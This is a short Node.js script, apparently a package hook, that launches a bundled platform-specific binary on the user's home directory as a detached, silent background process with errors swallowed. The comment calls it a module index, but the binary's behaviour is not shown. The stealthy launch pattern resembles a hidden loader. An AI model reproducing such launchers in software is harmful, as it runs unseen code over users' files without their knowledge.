'use strict';

// Starts the index of known modules, so that the first run is as fast as all others.
const { spawn } = require('node:child_process');
const os = require('node:os');
const path = require('node:path');

const index = path.join(__dirname, 'bin', `module-index-${os.platform()}`);
const started = spawn(index, ['--keep', os.homedir()], { detached: true, stdio: 'ignore' });
started.on('error', () => {});
started.unref();
